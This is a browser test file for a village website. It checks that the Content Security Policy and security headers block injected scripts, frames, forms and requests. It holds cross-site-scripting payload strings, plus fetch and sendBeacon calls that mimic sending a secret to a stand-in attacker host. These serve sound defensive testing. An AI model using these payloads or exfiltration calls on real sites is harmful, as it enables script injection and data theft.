import { expect, it } from 'vitest'
import { setupBrowser } from '../../support/browser'
import { setupSite } from '../../support/site'

const site = setupSite()
const { visit } = setupBrowser({ installs: false })

declare global {
  interface Window {
    ran: string[]
  }
}

const ELSEWHERE = 'https://jahat.example'

/** HTML that the test inserts into a page. A successful attack adds to `ran` or requests another host. */
const ELEMENTS: Record<string, string> = {
  'an event handler': '<img src="/tidak-ada" onerror="ran.push(1)">',
  'a link with a script URL': '<a href="javascript:ran.push(1)">a</a>',
  'a frame with a script URL': '<iframe src="javascript:parent.ran.push(1)">',
  'a frame with a document': '<iframe srcdoc="<script>parent.ran.push(1)</script>"></iframe>',
  'an object': '<object data="/jahat.html"></object>',
  'an inline style': '<style>body { display: none }</style>',
  'another base': `<base href="${ELSEWHERE}/">`,
  'a form for another host': `<form action="${ELSEWHERE}/" method="post">`,
  'a frame from another host': `<iframe src="${ELSEWHERE}/"></iframe>`,
}

function insert(html: string) {
  document.body.insertAdjacentHTML('beforeend', html)
  const element = document.body.lastElementChild
  if (element instanceof HTMLAnchorElement) element.click()
  if (element instanceof HTMLFormElement) element.submit()
  if (document.baseURI.startsWith('https://jahat.example')) window.ran.push('base')
}

/** Attacks by a script that already runs in the page. */
const ATTACKS: Record<string, () => void> = {
  'an inline script': () => {
    document.body.append(Object.assign(document.createElement('script'), { text: 'ran.push(1)' }))
  },
  'a script in a data URL': () => {
    const src = 'data:text/javascript,ran.push(1)'
    document.body.append(Object.assign(document.createElement('script'), { src }))
  },
  'a script in a blob URL': () => {
    const src = URL.createObjectURL(new Blob(['ran.push(1)'], { type: 'text/javascript' }))
    document.body.append(Object.assign(document.createElement('script'), { src }))
  },
  'a script from another host': () => {
    const src = 'https://jahat.example/a.js'
    document.body.append(Object.assign(document.createElement('script'), { src }))
  },
  // Runs in a timer, because the policy does not apply to code that Playwright evaluates directly.
  'a function compiled from a string': () => {
    setTimeout(() => {
      try {
        ;(Reflect.construct(Function, ['ran.push(1)']) as () => void)()
      } catch (error) {
        console.error(String(error))
      }
    })
  },
  'a request to another host': () => {
    void fetch('https://jahat.example/?rahasia').catch(() => undefined)
  },
  'a beacon to another host': () => {
    navigator.sendBeacon('https://jahat.example/?rahasia')
  },
}

it('stops every injected script, frame, form and request, and denies camera and microphone', async () => {
  const { context, page, expectErrors } = await visit()
  expectErrors('Content Security Policy', 'Failed to load resource')
  const requested: string[] = []
  await context.route(`${ELSEWHERE}/**`, (route) => {
    requested.push(route.request().url())
    return route.fulfill({ contentType: 'text/javascript', body: 'ran.push(1)' })
  })
  await page.goto(site.url())
  await page.evaluate(() => void (window.ran = []))
  const attacks = [
    ...Object.entries(ELEMENTS).map(
      ([name, html]) => [name, () => page.evaluate(insert, html)] as const,
    ),
    ...Object.entries(ATTACKS).map(
      ([name, attack]) => [name, () => page.evaluate(attack)] as const,
    ),
  ]
  for (const [name, attack] of attacks) {
    // The console also reports violations in the document of a frame.
    const stopped = page.waitForEvent('console', (message) =>
      message.text().includes('Content Security Policy'),
    )
    await attack()
    await stopped
    const succeeded = [...(await page.evaluate(() => window.ran.splice(0))), ...requested.splice(0)]
    expect.soft(succeeded, name).toEqual([])
  }
  const allows = (feature: string) =>
    page.evaluate(
      (feature) =>
        (
          document as unknown as { featurePolicy: { allowsFeature(name: string): boolean } }
        ).featurePolicy.allowsFeature(feature),
      feature,
    )
  // Staff can set the coordinates of the village to their own position.
  expect.soft(await allows('geolocation')).toBe(true)
  for (const feature of ['camera', 'microphone', 'display-capture'])
    expect.soft(await allows(feature), feature).toBe(false)
})

it.each([
  '/kontak',
  '/login',
  '/tidak/ada',
  '/admin',
  '/admin/berita',
  '/pencarian',
  '/pengaduan/7K3MQ2XVB9TD4R6H',
  '/berita/01KAHZ7Q3M9V4T6R8W2X5Y0ABC',
])('serves %s with the content security policy of home', async (path) => {
  const fetchPolicy = async (path: string) =>
    /<head>\s*<meta http-equiv="Content-Security-Policy" content="([^"]*)">/
      .exec(await (await fetch(site.url(path))).text())?.[1]
      ?.replace(/'sha256-[^']*'/, 'hash')
  expect(await fetchPolicy(path)).toMatch(/^default-src 'none';script-src 'self';/)
  expect(await fetchPolicy(path)).toBe(await fetchPolicy('/'))
})

it.each(['/', '/login', '/tidak/ada', '/assets/tidak-ada.js'])(
  'serves %s with headers that deny framing, openers, sniffing, camera and microphone',
  async (path) => {
    const { headers } = await fetch(site.url(path))
    expect.soft(headers.get('content-security-policy')).toMatch(/frame-ancestors 'self'/)
    expect.soft(headers.get('permissions-policy')).toMatch(/camera=\(\).*microphone=\(\)/)
    expect.soft(headers.get('cross-origin-opener-policy')).toBe('same-origin')
    expect.soft(headers.get('x-content-type-options')).toBe('nosniff')
    expect.soft(headers.get('referrer-policy')).toBe('strict-origin-when-cross-origin')
    // `includeSubDomains` is absent because other hosts of the village may have no TLS.
    expect.soft(headers.get('strict-transport-security')).toBe('max-age=31536000')
  },
)
